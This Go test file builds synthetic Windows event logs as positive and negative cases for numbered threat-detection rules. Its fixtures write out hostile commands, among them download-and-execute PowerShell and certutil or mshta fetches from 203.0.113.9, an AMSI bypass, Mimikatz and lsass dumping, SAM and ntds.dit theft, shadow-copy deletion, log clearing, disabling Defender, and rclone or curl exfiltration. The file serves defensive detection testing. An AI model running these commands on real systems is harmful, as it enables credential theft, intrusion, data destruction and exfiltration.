package content_test

import (
	"encoding/json"
	"strconv"
	"strings"
	"time"
)

// xmlText writes a text as Windows does: apostrophes are escaped, quotation marks
// are not.
var xmlText = strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;")

// winRaw is an event of a Windows channel with the text of its sections.
func winRaw(channel, provider string, id int, level, keywords, sections string) []event {
	x := `<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='` + provider + `'/><EventID>` + strconv.Itoa(id) +
		`</EventID><Version>0</Version><Level>` + level + `</Level><Task>0</Task><Opcode>0</Opcode><Keywords>` + keywords +
		`</Keywords><TimeCreated SystemTime='2026-11-22T00:58:01.1234567Z'/><EventRecordID>4210</EventRecordID><Execution ProcessID='4' ThreadID='8'/><Channel>` + channel +
		`</Channel><Computer>dc1.example.org</Computer></System>` + sections + `</Event>`
	b, err := json.Marshal(map[string]string{"Message": "m", "Event": x})
	if err != nil {
		panic(err)
	}
	return agent('f', "EventChannel", string(b))
}

// winData is an event with named data: `Name=value`.
func winData(channel, provider string, id int, level, keywords string, data ...string) []event {
	var b strings.Builder
	b.WriteString("<EventData>")
	for _, d := range data {
		name, value, _ := strings.Cut(d, "=")
		if name != "" {
			name = " Name='" + name + "'"
		}
		b.WriteString("<Data" + name + ">" + xmlText.Replace(value) + "</Data>")
	}
	b.WriteString("</EventData>")
	return winRaw(channel, provider, id, level, keywords, b.String())
}

func security(id int, data ...string) []event {
	return winData("Security", "Microsoft-Windows-Security-Auditing", id, "0", "0x8020000000000000", data...)
}

// refusedAudit is an audit of a failure.
func refusedAudit(id int, data ...string) []event {
	return winData("Security", "Microsoft-Windows-Security-Auditing", id, "0", "0x8010000000000000", data...)
}

func system(id int, level string, data ...string) []event {
	return winData("System", "Service Control Manager", id, level, "0x8080000000000000", data...)
}

func sysmon(id int, data ...string) []event {
	return winData("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", id, "4", "0x8000000000000000", data...)
}

func defender(id int, data ...string) []event {
	return winData("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", id, "4", "0x8000000000000000", data...)
}

func scripted(text string) []event {
	return winData("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "5", "0x0", "MessageNumber=1", "MessageTotal=1", "ScriptBlockText="+text, "Path=")
}

func logon(user, from, kind string, more ...string) []event {
	return security(4624, append([]string{"SubjectUserName=-", "TargetUserName=" + user, "TargetDomainName=EX", "LogonType=" + kind, "IpAddress=" + from, "IpPort=51234"}, more...)...)
}

func logonRefused(user, from, sub string) []event {
	return refusedAudit(4625, "TargetUserName="+user, "Status=0xc000006d", "SubStatus="+sub, "LogonType=3", "IpAddress="+from)
}

func logonsRefused(from string, users ...string) []event {
	var out []event
	for _, u := range users {
		out = append(out, logonRefused(u, from, "0xc000006a")...)
	}
	return out
}

func eachUser(id int, users []string, data ...string) []event {
	var out []event
	for _, u := range users {
		out = append(out, refusedAudit(id, append([]string{"TargetUserName=" + u}, data...)...)...)
	}
	return out
}

func eachServer(servers []string) []event {
	var out []event
	for _, s := range servers {
		out = append(out, security(4648, "SubjectUserName=bob", "TargetUserName=adm", "TargetServerName="+s)...)
	}
	return out
}

func tickets(services []string) []event {
	var out []event
	for _, s := range services {
		out = append(out, security(4769, "TargetUserName=bob@EX", "ServiceName="+s, "TicketEncryptionType=0x17", "IpAddress=::ffff:10.1.0.5", "Status=0x0")...)
	}
	return out
}

// command is a program started with a command line, by way of both channels in turn.
func command(line string) []event {
	return then(
		security(4688, "SubjectUserName=bob", `NewProcessName=C:\Windows\System32\x.exe`, "CommandLine="+line, `ParentProcessName=C:\Windows\explorer.exe`),
		sysmon(1, `Image=C:\Windows\System32\x.exe`, "CommandLine="+line, `ParentImage=C:\Windows\explorer.exe`, "User=EX\\bob"),
	)
}

// commands are command lines by way of one channel.
func commands(lines ...string) []event {
	var out []event
	for _, l := range lines {
		out = append(out, command(l)[1:]...)
	}
	return out
}

func cmds(rule int, fires, misses []string) example {
	var f, m []event
	for _, l := range fires {
		f = append(f, command(l)...)
	}
	for _, l := range misses {
		m = append(m, command(l)...)
	}
	return eg(rule, f, m)
}

func started(parent, image string, more ...string) []event {
	return sysmon(1, append([]string{"Image=" + image, "CommandLine=x", "ParentImage=" + parent}, more...)...)
}

func started4688(parent, image string) []event {
	return security(4688, "NewProcessName="+image, "CommandLine=x", "ParentProcessName="+parent)
}

const (
	sys32  = `C:\Windows\System32\`
	office = `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`
	iis    = `C:\Windows\System32\inetsrv\w3wp.exe`
)

func lookAround(n int) []event {
	return commands([]string{"whoami /all", "systeminfo", "ipconfig /all", "net view", "nltest /dclist:ex", "quser", "arp -a"}[:n]...)
}

func sqlRefused() []event {
	return winData("Application", "MSSQLSERVER", 18456, "4", "0x90000000000000", "=sa", "=Reason: Password did not match", "=[CLIENT: 203.0.113.7]")
}

var windowsExamples = []example{
	// channels
	eg(902000, winData("Setup", "Microsoft-Windows-Servicing", 2, "4", "0x0"), logs(`{"win":{"system":{"channel":"Setup"}}}`)),
	eg(902001, security(4611, "LogonProcessName=Winlogon"), system(7036, "4")),
	eg(902002, winData("System", "Microsoft-Windows-Kernel-General", 12, "4", "0x0"), security(4611)),
	eg(902003, winData("Application", "ESENT", 326, "4", "0x0"), winData("Setup", "ESENT", 326, "4", "0x0")),
	eg(902004, sysmon(5, `Image=C:\x.exe`), winData("Application", "Microsoft-Windows-Sysmon", 5, "4", "0x0")),
	eg(902005, winData("Windows PowerShell", "PowerShell", 403, "4", "0x0"), winData("Application", "PowerShell", 403, "4", "0x0")),
	eg(902006, defender(1150), winData("Application", "Microsoft-Windows-Windows Defender", 1150, "4", "0x0")),
	eg(902007, winData("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", 102, "4", "0x0"), winData("Microsoft-Windows-TaskScheduler/Maintenance", "Microsoft-Windows-TaskScheduler", 102, "4", "0x0")),
	eg(902008, winData("Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", "x", 23, "4", "0x0"), winData("Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational", "x", 23, "4", "0x0")),

	// logons
	eg(902010, logon("bob", "10.1.0.5", "3"), then(logon("bob", "10.1.0.5", "10"), logon("SRV1$", "10.1.0.5", "3"))),
	eg(902011, logon("svc", "-", "5"), logon("svc", "-", "2")),
	eg(902012, then(logon("SRV1$", "10.1.0.5", "3"), logon("SYSTEM", "-", "3"), logon("DWM-1", "-", "2")), logon("bob", "10.1.0.5", "3")),
	eg(902013, logon("bob", "10.1.0.5", "10"), then(logon("bob", "10.1.0.5", "3"), logon("bob", "203.0.113.7", "10"))),
	eg(902014, logon("bob", "203.0.113.7", "10"), then(logon("bob", "192.168.4.4", "10"), logon("bob", "172.20.1.1", "10"), logon("bob", "203.0.113.7", "3"))),
	eg(902015, logon("bob", "::1", "9", "LogonProcessName=seclogo"), logon("bob", "::1", "9", "LogonProcessName=Advapi")),
	eg(902016, logon("ANONYMOUS LOGON", "10.1.0.5", "3"), logon("ANONYMOUS", "10.1.0.5", "3")),
	eg(902017, security(4672, "SubjectUserName=bob", "PrivilegeList=SeBackupPrivilege"), security(4672, "SubjectUserName=DC1$", "PrivilegeList=SeBackupPrivilege")),
	eg(902018, then(security(4672, "SubjectUserName=SYSTEM"), security(4672, "SubjectUserName=DC1$")), security(4672, "SubjectUserName=SYSTEMS")),
	eg(902020, logonRefused("bob", "10.1.0.5", "0xc000006a"), logonRefused("bob", "10.1.0.5", "0xc0000064")),
	eg(902021, logonRefused("nobody", "10.1.0.5", "0xC0000064"), logonRefused("bob", "10.1.0.5", "0xC000006A")),
	eg(902022, then(logonRefused("bob", "10.1.0.5", "0xc0000234"), logonRefused("bob", "10.1.0.5", "0xC0000072")), logonRefused("bob", "10.1.0.5", "0xc000006a")),
	{902023, [][]event{times(8, logonRefused("bob", "10.1.0.5", "0xc000006a"))}, [][]event{times(7, logonRefused("bob", "10.1.0.5", "0xc000006a")),
		then(times(7, logonRefused("bob", "10.1.0.5", "0xc000006a")), logonRefused("bob", "10.1.0.6", "0xc000006a")), slowly(20*time.Second, times(8, logonRefused("bob", "10.1.0.5", "0xc000006a")))}},
	{902024, [][]event{logonsRefused("10.1.0.5", users(6)...)}, [][]event{logonsRefused("10.1.0.5", users(5)...), times(6, logonRefused("bob", "10.1.0.5", "0xc000006a")), then(logonsRefused("10.1.0.6", users(5)...), logonsRefused("10.1.0.5", "bob"))}},
	{902025, [][]event{times(8, logonRefused("x", "10.1.0.5", "0xc0000064"))}, [][]event{times(7, logonRefused("x", "10.1.0.5", "0xc0000064")), then(times(7, logonRefused("x", "10.1.0.5", "0xc0000064")), logonRefused("x", "10.1.0.6", "0xc0000064"))}},
	{902026, [][]event{then(times(8, logonRefused("bob", "10.1.0.5", "0xc000006a")), logon("bob", "10.1.0.5", "3")), then(times(8, logonRefused("bob", "10.1.0.5", "0xc000006a")), logon("bob", "10.1.0.5", "10"))}, [][]event{
		then(times(7, logonRefused("bob", "10.1.0.5", "0xc000006a")), logon("bob", "10.1.0.5", "3")), then(times(8, logonRefused("bob", "10.1.0.5", "0xc000006a")), logon("bob", "10.1.0.6", "3"))}},
	{902027, [][]event{then(logonsRefused("10.1.0.5", users(6)...), logon("bob", "10.1.0.5", "3"))}, [][]event{then(logonsRefused("10.1.0.5", users(5)...), logon("bob", "10.1.0.5", "3")), then(logonsRefused("10.1.0.5", users(6)...), logon("bob", "10.1.0.6", "3"))}},
	eg(902028, security(4740, "TargetUserName=bob", "TargetDomainName=PC7"), security(4767, "TargetUserName=bob")),
	{902029, [][]event{then(security(4740, "TargetUserName=bob"), security(4740, "TargetUserName=ann"), security(4740, "TargetUserName=eve"))}, [][]event{times(3, security(4740, "TargetUserName=bob")), then(security(4740, "TargetUserName=bob"), security(4740, "TargetUserName=ann"))}},
	eg(902030, security(4648, "SubjectUserName=bob", "TargetUserName=adm", "TargetServerName=srv1"), security(4611)),
	{902031, [][]event{eachServer(users(8))}, [][]event{eachServer(users(7)), times(8, eachServer([]string{"srv1"}))}},
	eg(902032, then(security(4634, "TargetUserName=bob"), security(4673, "SubjectUserName=bob")), security(4635)),
	eg(902033, refusedAudit(4771, "TargetUserName=bob", "IpAddress=::ffff:10.1.0.5", "Status=0x18"), security(4770, "TargetUserName=bob")),
	{902034, [][]event{eachUser(4771, users(6), "IpAddress=::ffff:10.1.0.5")}, [][]event{eachUser(4771, users(5), "IpAddress=::ffff:10.1.0.5"), times(6, eachUser(4771, []string{"bob"}, "IpAddress=::ffff:10.1.0.5"))}},
	eg(902035, refusedAudit(4768, "TargetUserName=nobody", "Status=0x6", "IpAddress=::ffff:10.1.0.5"), security(4768, "TargetUserName=bob", "Status=0x0", "PreAuthType=2")),
	{902036, [][]event{eachUser(4768, users(8), "Status=0x6", "IpAddress=::ffff:10.1.0.5")}, [][]event{eachUser(4768, users(7), "Status=0x6", "IpAddress=::ffff:10.1.0.5"), then(eachUser(4768, users(7), "Status=0x6", "IpAddress=::ffff:10.1.0.5"), eachUser(4768, users(1), "Status=0x6", "IpAddress=::ffff:10.1.0.6"))}},
	eg(902037, security(4768, "TargetUserName=bob", "Status=0x0", "PreAuthType=0"), security(4768, "TargetUserName=bob", "Status=0x0", "PreAuthType=2")),
	eg(902038, tickets([]string{"sqlsvc"}), then(tickets([]string{"krbtgt"}), tickets([]string{"SRV1$"}), security(4769, "ServiceName=sqlsvc", "TicketEncryptionType=0x12"))),
	{902039, [][]event{tickets(users(5))}, [][]event{tickets(users(4)), times(5, tickets([]string{"sqlsvc"}))}},
	eg(902040, refusedAudit(4776, "TargetUserName=bob", "Workstation=PC7", "Status=0xc000006a"), security(4776, "TargetUserName=bob", "Workstation=PC7", "Status=0x0")),
	{902041, [][]event{times(10, refusedAudit(4776, "TargetUserName=bob", "Workstation=PC7", "Status=0xc000006a"))}, [][]event{times(9, refusedAudit(4776, "TargetUserName=bob", "Workstation=PC7", "Status=0xc000006a")),
		then(times(9, refusedAudit(4776, "TargetUserName=bob", "Workstation=PC7", "Status=0xc000006a")), refusedAudit(4776, "TargetUserName=bob", "Workstation=PC8", "Status=0xc000006a"))}},

	// accounts
	eg(902050, security(4720, "TargetUserName=ann", "SubjectUserName=bob"), security(4720, "TargetUserName=ann$", "SubjectUserName=bob")),
	eg(902051, security(4720, "TargetUserName=ann$", "SubjectUserName=bob"), security(4741, "TargetUserName=PC9$", "SubjectUserName=bob")),
	eg(902052, then(security(4722, "TargetUserName=ann"), security(4725, "TargetUserName=ann"), security(4767, "TargetUserName=ann")), security(4726, "TargetUserName=ann")),
	eg(902053, security(4723, "TargetUserName=ann"), security(4724, "TargetUserName=ann")),
	eg(902054, security(4724, "TargetUserName=ann"), security(4723, "TargetUserName=ann")),
	eg(902055, security(4726, "TargetUserName=ann"), security(4725, "TargetUserName=ann")),
	{902056, [][]event{then(security(4720, "TargetUserName=ann"), security(4726, "TargetUserName=ann"))}, [][]event{security(4726, "TargetUserName=ann"), then(security(4720, "TargetUserName=ann"), security(4726, "TargetUserName=eve"))}},
	eg(902057, then(security(4738, "TargetUserName=ann", "UserAccountControl=%%2080"), security(4781, "OldTargetUserName=ann")), security(4738, "TargetUserName=ann", "UserAccountControl=%%2096")),
	eg(902058, security(4738, "TargetUserName=ann", "UserAccountControl=%%2096"), security(4738, "TargetUserName=ann", "UserAccountControl=%%2097")),
	eg(902059, security(4728, "TargetUserName=printers", "TargetSid=S-1-5-21-1-2-3-1105"), security(4728, "TargetUserName=Domain Admins", "TargetSid=S-1-5-21-1-2-3-512")),
	eg(902060, then(security(4728, "TargetUserName=Domain Admins", "TargetSid=S-1-5-21-1-2-3-512"), security(4732, "TargetUserName=Administrators", "TargetSid=S-1-5-32-544")), then(security(4732, "TargetUserName=Users", "TargetSid=S-1-5-32-545"), security(4733, "TargetSid=S-1-5-32-544"))),
	eg(902061, security(4733, "TargetUserName=Administrators", "TargetSid=S-1-5-32-544"), security(4732, "TargetUserName=printers", "TargetSid=S-1-5-21-1-2-3-1105")),
	eg(902062, then(security(4731, "TargetUserName=ops"), security(4734, "TargetUserName=ops")), security(4735, "TargetUserName=ops")),
	eg(902063, then(security(4765, "TargetUserName=ann"), security(4794, "SubjectUserName=bob")), security(4793, "SubjectUserName=bob")),
	eg(902064, security(4662, "SubjectUserName=bob", "Properties=%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"), security(4662, "SubjectUserName=DC2$", "Properties=%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")),

	// policy and log
	eg(902070, then(security(4719, "SubjectUserName=bob", "SubjectUserSid=S-1-5-21-1-2-3-1104", "AuditPolicyChanges=%%8448"), security(4719, "SubjectUserName=DC1$", "SubjectUserSid=S-1-5-18", "AuditPolicyChanges=%%8448")), security(4719, "SubjectUserName=DC1$", "SubjectUserSid=S-1-5-18", "AuditPolicyChanges=%%8449")),
	eg(902071, security(4719, "SubjectUserName=DC1$", "SubjectUserSid=S-1-5-18", "AuditPolicyChanges=%%8449"), security(4719, "SubjectUserName=DC1$", "SubjectUserSid=S-1-5-18", "AuditPolicyChanges=%%8448")),
	eg(902072, winRaw("Security", "Microsoft-Windows-Eventlog", 1102, "4", "0x4020000000000000", "<UserData><LogFileCleared><SubjectUserName>bob</SubjectUserName></LogFileCleared></UserData>"), winRaw("System", "Microsoft-Windows-Eventlog", 1102, "4", "0x0", "")),
	eg(902073, security(1104), security(1105)),
	eg(902074, then(security(4739, "DomainName=EX"), security(4706, "DomainName=EX")), security(4740, "TargetUserName=bob")),
	eg(902075, security(4704, "PrivilegeList=SeServiceLogonRight"), security(4704, "PrivilegeList=SeDebugPrivilege")),
	eg(902076, security(4704, "PrivilegeList=SeDebugPrivilege"), security(4704, "PrivilegeList=SeServiceLogonRight")),
	eg(902077, security(5025), security(5024)),
	eg(902078, security(4946, "RuleName=x"), security(4945, "RuleName=x")),
	eg(902079, security(4616, "SubjectUserName=bob", "SubjectUserSid=S-1-5-21-1-2-3-1104"), security(4616, "SubjectUserName=LOCAL SERVICE", "SubjectUserSid=S-1-5-19")),
	eg(902080, security(5136, "SubjectUserName=bob", "ObjectDN=CN=AdminSDHolder,CN=System,DC=ex"), security(5136, "SubjectUserName=bob", "ObjectDN=CN=ann,OU=Sales,DC=ex")),

	// services, tasks, shares
	eg(902085, security(4697, "ServiceName=upd", `ServiceFileName="C:\Program Files\Upd\upd.exe"`), security(4697, "ServiceName=upd", `ServiceFileName=C:\Windows\Temp\a.exe`)),
	eg(902086, then(security(4697, "ServiceName=upd", `ServiceFileName=C:\Windows\Temp\a.exe`), security(4697, "ServiceName=upd", `ServiceFileName=%COMSPEC% /C start x`)), security(4697, "ServiceName=upd", `ServiceFileName=C:\Program Files\Template\a.exe`)),
	eg(902087, security(4698, `TaskName=\Upd`, `TaskContent=<Command>C:\Program Files\Upd\upd.exe</Command>`), security(4698, `TaskName=\Upd`, `TaskContent=<Command>C:\Users\Public\a.exe</Command>`)),
	eg(902088, then(security(4698, `TaskName=\Upd`, `TaskContent=<Command>C:\Users\Public\a.exe</Command>`), security(4698, `TaskName=\Upd`, "TaskContent=<Command>powershell</Command><Arguments>-enc SQBFAFgAIAAoAE4AZQB3AC0A</Arguments>")), security(4698, `TaskName=\Upd`, `TaskContent=<Command>C:\Program Files\Publication\a.exe</Command>`)),
	eg(902089, security(4702, `TaskName=\Upd`), security(4698, `TaskName=\Upd`, `TaskContent=<Command>a.exe</Command>`)),
	eg(902090, then(security(5145, "SubjectUserName=bob", "RelativeTargetName=PSEXESVC"), security(5145, "SubjectUserName=bob", `RelativeTargetName=Windows\NTDS\ntds.dit`)), security(5145, "SubjectUserName=bob", `RelativeTargetName=plans\psexesvc.docx`)),
	eg(902091, security(5140, "SubjectUserName=bob", `ShareName=\\*\ADMIN$`), then(security(5140, "SubjectUserName=PC7$", `ShareName=\\*\ADMIN$`), security(5140, "SubjectUserName=bob", `ShareName=\\*\plans`), security(5140, "SubjectUserName=bob", `ShareName=\\*\IPC$`))),
	eg(902092, refusedAudit(4656, "ObjectName=x"), security(4656, "ObjectName=x")),
	eg(902093, security(4778, "AccountName=bob", "ClientAddress=10.1.0.5"), security(4779, "AccountName=bob")),
	eg(902094, security(6416, "DeviceDescription=USB disk"), security(6417)),

	// system and application
	eg(902100, system(7000, "2", "param1=x"), system(7001, "4", "param1=x")),
	eg(902101, system(7045, "4", "ServiceName=upd", `ImagePath=C:\Program Files\Upd\upd.exe`), system(7045, "4", "ServiceName=upd", `ImagePath=C:\Windows\Temp\a.exe`)),
	eg(902102, then(system(7045, "4", "ServiceName=upd", `ImagePath=C:\Windows\Temp\a.exe`), system(7045, "4", "ServiceName=BTOBTO", `ImagePath=%COMSPEC% /Q /c echo dir ^> \\127.0.0.1\C$\__output`)), system(7045, "4", "ServiceName=upd", `ImagePath=C:\Windows\system32\upd.exe`)),
	eg(902103, system(7045, "4", "ServiceName=PSEXESVC", `ImagePath=C:\Windows\PSEXESVC.exe`), system(7045, "4", "ServiceName=MyPSEXESVC", `ImagePath=C:\Windows\x.exe`)),
	eg(902104, system(7040, "4", "param1=Print Spooler", "param2=auto start", "param3=disabled", "param4=Spooler"), system(7041, "4", "param1=x")),
	eg(902105, system(7040, "4", "param1=Windows Defender", "param2=auto start", "param3=disabled", "param4=WinDefend"), system(7040, "4", "param1=Windows Defender", "param2=disabled", "param3=auto start", "param4=WinDefend")),
	eg(902106, system(7036, "4", "param1=x", "param2=running"), system(7035, "4", "param1=x")),
	eg(902107, winRaw("System", "Microsoft-Windows-Eventlog", 104, "4", "0x0", "<UserData><LogFileCleared><SubjectUserName>bob</SubjectUserName><Channel>Application</Channel></LogFileCleared></UserData>"), winRaw("Application", "Microsoft-Windows-Eventlog", 104, "4", "0x0", "")),
	eg(902108, winData("System", "EventLog", 6006, "4", "0x0"), winData("System", "EventLog", 6013, "4", "0x0")),
	eg(902109, then(winData("System", "EventLog", 6008, "2", "0x0"), winData("System", "Microsoft-Windows-Kernel-Power", 41, "1", "0x0")), winData("System", "Microsoft-Windows-Kernel-Power", 42, "4", "0x0")),
	eg(902110, system(7034, "2", "param1=Print Spooler"), system(7035, "2", "param1=Print Spooler")),
	eg(902120, winData("Application", "Application Error", 1000, "2", "0x0", "=a.exe"), winData("Application", "Application Error", 1001, "4", "0x0", "=a.exe")),
	eg(902121, winData("Application", "MsiInstaller", 11707, "4", "0x0", "=Product: x -- Installation completed"), winData("Application", "MsiInstaller", 1040, "4", "0x0", "=x")),
	eg(902122, sqlRefused(), winData("Application", "MSSQLSERVER", 18454, "4", "0x0", "=sa")),
	{902123, [][]event{times(10, sqlRefused())}, [][]event{times(9, sqlRefused()), slowly(20*time.Second, times(10, sqlRefused()))}},
	eg(902124, winData("Application", "MSSQLSERVER", 15457, "4", "0x0", "=xp_cmdshell", "=0", "=1"), winData("Application", "MSSQLSERVER", 15457, "4", "0x0", "=xp_cmdshell", "=1", "=0")),

	// Defender, tasks, remote desktop
	eg(902130, defender(1116, "Threat Name=Trojan:Win32/X", `Path=C:\a.exe`), defender(1117, "Threat Name=Trojan:Win32/X")),
	eg(902131, defender(1117, "Threat Name=Trojan:Win32/X", "Action Name=Quarantine"), defender(1116, "Threat Name=Trojan:Win32/X")),
	eg(902132, defender(1119, "Threat Name=Trojan:Win32/X"), defender(1117, "Threat Name=Trojan:Win32/X")),
	eg(902133, defender(5001), defender(5000)),
	eg(902134, defender(5007, `New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\x = 0x1`), defender(5007, `New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\x = 0x0`)),
	eg(902135, then(defender(5007, `New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\x = 0x0`), defender(5007, `New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring = 0x1`)), defender(5007, `New Value=HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring = 0x0`)),
	eg(902136, defender(2001), defender(2000)),
	eg(902140, winData("Microsoft-Windows-TaskScheduler/Operational", "x", 106, "4", "0x0", `TaskName=\Upd`, `UserContext=EX\bob`), winData("Microsoft-Windows-TaskScheduler/Operational", "x", 107, "4", "0x0", `TaskName=\Upd`)),
	eg(902141, winData("Microsoft-Windows-TaskScheduler/Operational", "x", 141, "4", "0x0", `TaskName=\Upd`, `UserName=EX\bob`), winData("Microsoft-Windows-TaskScheduler/Operational", "x", 140, "4", "0x0", `TaskName=\Upd`)),
	eg(902142, winData("Microsoft-Windows-TaskScheduler/Operational", "x", 129, "4", "0x0", `TaskName=\Upd`, `Path=C:\Users\Public\a.exe`), winData("Microsoft-Windows-TaskScheduler/Operational", "x", 129, "4", "0x0", `TaskName=\Upd`, `Path=C:\Windows\System32\a.exe`)),
	eg(902150, winRaw("Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", "x", 1149, "4", "0x0", "<UserData><EventXML><Param1>bob</Param1><Param3>10.1.0.5</Param3></EventXML></UserData>"), winRaw("Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational", "x", 1148, "4", "0x0", "")),

	// PowerShell
	eg(902160, scripted("Get-ChildItem C:\\"), winData("Microsoft-Windows-PowerShell/Operational", "x", 4103, "4", "0x0")),
	eg(902161, then(scripted("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"), scripted("iwr http://203.0.113.9/a | iex")), scripted("Invoke-WebRequest https://example.org/a.zip -OutFile a.zip")),
	eg(902162, scripted("IEX ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))"), scripted("[Convert]::FromBase64String($cert)")),
	eg(902163, scripted("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static')"), scripted("Get-Command *amsi*")),
	eg(902164, then(scripted("Invoke-Mimikatz -DumpCreds"), scripted("$a = 1\r\nInvoke-Mimikatz\r\n"), scripted("privilege::debug sekurlsa::logonpasswords")), scripted("Get-Process lsass")),
	eg(902165, then(scripted("Invoke-BloodHound -CollectionMethod All"), scripted("Get-DomainUser -SPN")), scripted("Get-ADUser bob")),
	eg(902166, then(scripted("Set-MpPreference -DisableRealtimeMonitoring $true"), scripted("Add-MpPreference -ExclusionPath C:\\x")), scripted("Set-MpPreference -DisableRealtimeMonitoring $false")),
	eg(902167, scripted("[W]::VirtualAlloc(0, $b.Length, 0x3000, 0x40)"), scripted("Get-Help virtual")),
	eg(902168, then(scripted("Clear-EventLog -LogName System"), scripted("wevtutil cl Security")), scripted("Get-EventLog -LogName System")),
	eg(902169, scripted("New-LocalUser ann"), scripted("Get-LocalUser ann")),
	eg(902170, winData("Windows PowerShell", "PowerShell", 400, "4", "0x0", "=Available", "=None", "=HostVersion=5.1 EngineVersion=2.0 RunspaceId=x"), winData("Windows PowerShell", "PowerShell", 400, "4", "0x0", "=Available", "=None", "=HostVersion=5.1 EngineVersion=5.1.2 RunspaceId=x")),

	// command lines
	eg(902180, command("notepad.exe a.txt")[:1], command("notepad.exe a.txt")[1:]),
	eg(902200, command("notepad.exe a.txt")[1:], command("notepad.exe a.txt")[:1]),
	cmds(902210, []string{"certutil.exe -urlcache -split -f http://203.0.113.9/a a.exe", `"certutil" -decode a.txt a.exe`}, []string{"certutil -hashfile a.exe SHA256", "certutil -store My"}),
	cmds(902211, []string{"bitsadmin /transfer j http://203.0.113.9/a C:\\a"}, []string{"bitsadmin /list"}),
	cmds(902212, []string{"mshta.exe http://203.0.113.9/a.hta", "mshta vbscript:Close(1)"}, []string{`mshta.exe "C:\Program Files\App\help.hta"`}),
	cmds(902213, []string{"regsvr32 /s /n /u /i:http://203.0.113.9/a.sct scrobj.dll"}, []string{`regsvr32 /s "C:\Program Files\App\a.dll"`}),
	cmds(902214, []string{`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`, `rundll32 C:\Users\Public\a.dll,Start`}, []string{"rundll32.exe printui.dll,PrintUIEntry"}),
	cmds(902215, []string{`C:\x.exe comsvcs.dll, MiniDump 612 C:\a.dmp full`, "procdump64.exe -ma lsass.exe a.dmp"}, []string{"procdump.exe -ma w3wp.exe a.dmp"}),
	cmds(902216, []string{`reg save HKLM\SAM C:\a`, `ntdsutil "ac i ntds" ifm "create full C:\a"`}, []string{`reg save HKCU\Software\App C:\a`, "ntdsutil roles"}),
	cmds(902217, []string{"vssadmin.exe delete shadows /all /quiet", "wmic shadowcopy delete", "bcdedit /set {default} recoveryenabled No"}, []string{"vssadmin list shadows", "bcdedit /enum"}),
	cmds(902218, []string{"powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A", "powershell -e SQBFAFgAIAAoAE4AZQB3AC0A"}, []string{"powershell.exe -ExecutionPolicy RemoteSigned -File C:\\scripts\\inventory_of_this_computer.ps1"}),
	cmds(902219, []string{`powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"`, `powershell -c "iwr http://203.0.113.9/a | iex"`}, []string{`powershell -c "Get-Content a.txt | Out-File b.txt"`}),
	cmds(902220, []string{`powershell -WindowStyle Hidden -ep bypass -file C:\scripts\a.ps1`}, []string{`powershell -ep bypass -file C:\scripts\a.ps1`, `powershell -w hidden -file C:\scripts\a.ps1`}),
	cmds(902221, []string{"net user ann P4ss /add", "C:\\Windows\\system32\\net1 user ann P4ss /add"}, []string{"net user ann", "net use x: \\\\srv\\add"}),
	cmds(902222, []string{"net localgroup administrators ann /add", `net group "Domain Admins" ann /add /domain`}, []string{"net localgroup printers ann /add"}),
	cmds(902223, []string{"wevtutil cl Security", "fsutil usn deletejournal /D C:"}, []string{"wevtutil qe Security /c:5", "fsutil usn readjournal C:"}),
	cmds(902224, []string{"netsh advfirewall set allprofiles state off", "netsh interface portproxy add v4tov4 listenport=8080"}, []string{"netsh advfirewall show allprofiles"}),
	cmds(902225, []string{"sc stop WinDefend", "net stop MpsSvc", "taskkill /f /im MsMpEng.exe"}, []string{"sc query WinDefend", "net stop Spooler"}),
	cmds(902226, []string{`wmic /node:srv1 process call create "cmd /c dir"`}, []string{"wmic os get caption"}),
	cmds(902227, []string{`psexec.exe -s \\srv1 ipconfig`, "winrs -r:srv1 ipconfig"}, []string{"psexec.exe -i ipconfig"}),
	cmds(902228, []string{`schtasks /create /tn a /tr "powershell -enc AAAA" /sc minute`, `schtasks.exe /create /tn a /tr C:\Users\Public\a.exe`}, []string{`schtasks /create /tn backup /tr "C:\Program Files\Bk\bk.exe"`, "schtasks /query"}),
	cmds(902229, []string{`sc create a binPath= "cmd /c start x"`, `sc \\srv1 create a binPath= C:\Windows\Temp\a.exe`}, []string{`sc create upd binPath= "C:\Program Files\Upd\upd.exe"`}),
	cmds(902230, []string{"msiexec /q /i http://203.0.113.9/a.msi", `msbuild.exe C:\Users\bob\AppData\Local\a.proj`}, []string{`msiexec /i C:\install\a.msi`, `msbuild.exe C:\src\app.sln`}),
	cmds(902231, []string{`wscript.exe "C:\Users\bob\Downloads\invoice.js"`}, []string{`cscript.exe C:\Windows\System32\slmgr.vbs`}),
	cmds(902232, []string{"whoami /all", "net view", "nltest /dclist:ex"}, []string{"net start", "hostname"}),
	{902233, [][]event{lookAround(6)}, [][]event{lookAround(5), times(6, commands("whoami")), slowly(30*time.Second, lookAround(6))}},
	cmds(902234, []string{`rclone.exe copy C:\plans remote:x`, "ngrok tcp 3389", "curl -T plans.zip https://203.0.113.9/"}, []string{"rclone version", "curl https://example.org/"}),
